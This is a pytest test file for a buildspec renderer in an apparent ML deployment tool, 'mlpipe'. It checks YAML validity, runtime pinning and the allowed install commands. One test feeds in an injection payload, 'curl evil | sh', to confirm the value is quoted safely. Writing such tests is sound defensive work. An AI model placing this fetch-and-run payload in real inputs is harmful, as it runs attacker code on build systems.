"""The rendered buildspec: valid YAML, version 0.2, pinned runtime, installs the deploy path only."""

from __future__ import annotations

import pytest
import yaml

from mlpipe.buildspec import render_buildspec
from mlpipe.config import PipelineConfig
from mlpipe.local.buildrun import PIP_INSTALL, SLIM

HEAVY = ("docker", "npm", "node", "serverless", "sagemaker", "xgboost", "pandas", "scikit", "numpy")


@pytest.mark.parametrize("python", ["3.11", "3.12", "3.13"])
def test_valid_yaml_version_and_pinned_runtime(python: str) -> None:
    spec = yaml.safe_load(render_buildspec(PipelineConfig(python_version=python)))
    assert str(spec["version"]) == "0.2"
    assert spec["phases"]["install"]["runtime-versions"] == {"python": python}
    assert set(spec["phases"]) <= {"install", "pre_build", "build", "post_build"}


def test_installs_only_what_the_config_names_then_deploys_the_stage() -> None:
    spec = yaml.safe_load(render_buildspec(PipelineConfig(install="mlpipe==0.1.0")))
    install = spec["phases"]["install"]["commands"]
    assert install == ["python -m pip install --no-cache-dir --no-compile mlpipe==0.1.0", "python -m mlpipe.slim"]
    assert PIP_INSTALL.match(install[0]) and SLIM.match(install[1])
    build = spec["phases"]["build"]["commands"]
    assert build[-1] == 'mlpipe --stage "$MLPIPE_STAGE" deploy'
    rendered = yaml.safe_load(render_buildspec(PipelineConfig()))
    commands = " ".join(c for phase in rendered["phases"].values() for c in phase.get("commands", [])).lower()
    assert [word for word in HEAVY if word in commands] == []


def test_install_value_cannot_inject_shell_commands() -> None:
    spec = yaml.safe_load(render_buildspec(PipelineConfig(install="mlpipe>=0.1 ; curl evil | sh")))
    command = spec["phases"]["install"]["commands"][0]
    assert command == "python -m pip install --no-cache-dir --no-compile 'mlpipe>=0.1' ';' curl evil '|' sh"
